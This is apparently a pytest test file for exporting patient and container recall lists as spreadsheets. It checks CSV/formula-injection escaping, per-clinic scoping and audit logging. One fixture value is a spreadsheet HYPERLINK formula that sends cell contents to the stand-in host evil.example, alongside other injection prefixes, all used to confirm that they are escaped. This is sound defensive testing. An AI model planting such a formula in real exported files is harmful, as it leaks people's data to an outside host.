"""Exports of the recall lists: real workbooks and CSV files, formula injection escaped, access recorded."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from inventory.errors import NotFound, ValidationError
from inventory.models import AuditEvent
from inventory.services.permissions import Scope
from recall import exports, services
from tests import recall_helpers as rh
from tests.factories import NOW, patient, reconstitute

LATER = NOW + dt.timedelta(hours=3)
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
NASTY = ["+1 555 0100", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]


@pytest.fixture
def case(world, session):
    rh.share_toxins(world)
    vial = reconstitute(world, world.container("botox", lot="EX1"))
    evil = patient(world, "@REF1", name=EVIL_NAME)
    plain = patient(world, "L-2", name="Zoë Brontë")
    far = patient(world, "N-1", clinic=world.other_clinic, name="Ned Ray")
    vial_ny = reconstitute(world, world.container("botox", lot="EX1", location=world.location("Fridge",
                                                                                                 world.other_clinic)))
    rh.give(world, rh.treat(world, evil), vial, "4", area="glabella")
    rh.give(world, rh.treat(world, plain), vial, "6", area="forehead")
    rh.give(world, rh.treat(world, far), vial_ny, "4")
    opened = services.open_recall(session, actor=world.users["safety"], lot_ids=[vial.lot_id], reason="notice 7",
                                  recall_class="II", source="manufacturer", now=NOW)
    services.update_patient(session, actor=world.users["safety"], scope=Scope.everything(), case_id=opened.id,
                            patient_id=evil.id, status="notified", method="phone", note=NASTY[0], now=LATER)
    services.update_patient(session, actor=world.users["safety"], scope=Scope.everything(), case_id=opened.id,
                            patient_id=plain.id, status="unreachable", note=NASTY[1], now=LATER)
    services.update_container(session, actor=world.users["safety"], scope=Scope.everything(), case_id=opened.id,
                              container_id=vial.id, status="destroyed", note=NASTY[2], now=LATER)
    return opened


def export(session, world, case, which, fmt, user="safety"):
    viewer = world.users[user] if isinstance(user, str) else user
    return exports.export(session, viewer=viewer, scope=Scope.for_user(viewer), case_id=case.id, which=which,
                          fmt=fmt, now=LATER)


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())  # Excel reads UTF-8 only with the mark
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_patient_list_as_xlsx(world, session, case):
    file = export(session, world, case, "patients", "xlsx")
    assert file.mimetype == exports.XLSX_MIMETYPE and file.filename.startswith(f"recall-{case.id}-patients-")
    book = load_workbook(io.BytesIO(file.content))
    sheet = book.worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == exports.PATIENT_HEADERS
    by_ref = {row[1]: row for row in rows[1:]}
    assert set(by_ref) == {"'@REF1", "L-2", "N-1"}
    evil = by_ref["'@REF1"]
    assert evil[2] == "'" + EVIL_NAME and (evil[4], evil[5], evil[6]) == ("notified", "phone", "'" + NASTY[0])
    assert by_ref["L-2"][2] == "Zoë Brontë" and by_ref["L-2"][6] == "'" + NASTY[1]
    assert "Botox Cosmetic 100 U lot EX1: 6 U" in by_ref["L-2"][11] and by_ref["L-2"][10] == "forehead"
    assert by_ref["N-1"][4] == "pending"
    # No cell of the workbook is a formula: every one is a value.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert book["Case"]["B1"].value == case.id


def test_patient_list_as_csv_parses_back(world, session, case):
    file = export(session, world, case, "patients", "csv")
    assert file.mimetype.startswith("text/csv")
    rows = csv_rows(file.content)
    assert tuple(rows[0]) == exports.PATIENT_HEADERS and len(rows) == 4
    by_ref = {row[1]: row for row in rows[1:]}
    assert by_ref["'@REF1"][2] == "'" + EVIL_NAME
    assert by_ref["L-2"][2] == "Zoë Brontë" and by_ref["L-2"][4] == "unreachable"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_container_list_as_xlsx_and_csv(world, session, case):
    book = load_workbook(io.BytesIO(export(session, world, case, "containers", "xlsx").content))
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    assert rows[0] == exports.CONTAINER_HEADERS
    by_status = {row[7]: row for row in rows[1:]}
    assert set(by_status) == {"destroyed", "open"}
    assert (by_status["destroyed"][5], by_status["destroyed"][8]) == (0, "'" + NASTY[2])
    assert by_status["open"][5] == 96 and by_status["open"][6] == "U"  # New York's vial, 4 U drawn
    rows = csv_rows(export(session, world, case, "containers", "csv").content)
    assert sorted(row[7] for row in rows[1:]) == ["destroyed", "open"]
    assert {row[5] for row in rows[1:]} == {"0", "96"}


def test_a_clinic_level_export_holds_only_that_clinics_rows(world, session, case):
    lon_lead = world.lon_safety_lead()
    rows = csv_rows(export(session, world, case, "patients", "csv", user=lon_lead).content)
    assert sorted(row[0] for row in rows[1:]) == ["LON", "LON"]


def test_every_export_is_in_the_access_log(world, session, case):
    for which in ("patients", "containers"):
        for fmt in ("xlsx", "csv"):
            export(session, world, case, which, fmt)
    events = session.scalars(
        select(AuditEvent).where(AuditEvent.action == "patient_data.exported").order_by(AuditEvent.id)).all()
    assert [(e.details["list"], e.details["format"]) for e in events] == [
        ("patients", "xlsx"), ("patients", "csv"), ("containers", "xlsx"), ("containers", "csv")]
    assert all((e.actor_id, e.at, e.object_id) == (world.users["safety"].id, LATER, str(case.id)) for e in events)
    assert len(events[0].details["patient_ids"]) == 3 and events[0].details["rows"] == 3


def test_unknown_lists_formats_and_cases_are_refused(world, session, case):
    with pytest.raises(ValidationError):
        export(session, world, case, "everything", "xlsx")
    with pytest.raises(ValidationError):
        export(session, world, case, "patients", "pdf")
    with pytest.raises(NotFound):
        exports.export(session, viewer=world.users["safety"], scope=Scope.everything(), case_id=999999,
                       which="patients", fmt="csv", now=LATER)


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Ann", "Ann"), ("", ""), ("a=b", "a=b"), (Decimal("-1"), Decimal("-1")), (3, 3), (None, None),
])
def test_escape_cell(value, expected):
    assert exports.escape_cell(value) == expected
